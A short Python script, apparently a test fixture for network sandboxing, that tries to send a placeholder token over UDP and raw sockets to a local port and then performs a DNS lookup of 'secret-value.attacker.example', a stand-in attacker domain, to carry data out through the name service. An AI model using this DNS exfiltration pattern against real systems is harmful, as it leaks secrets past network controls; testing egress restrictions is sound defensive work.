# Calls home over UDP and asks the name service, which is a way out as well.
import socket

for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        socket.socket(socket.AF_INET, kind).sendto(b"@TOKEN@", ("127.0.0.1", int("@PORT@")))
        print("sent")
    except OSError as error:
        print(error)
print(socket.gethostbyname("secret-value.attacker.example"))
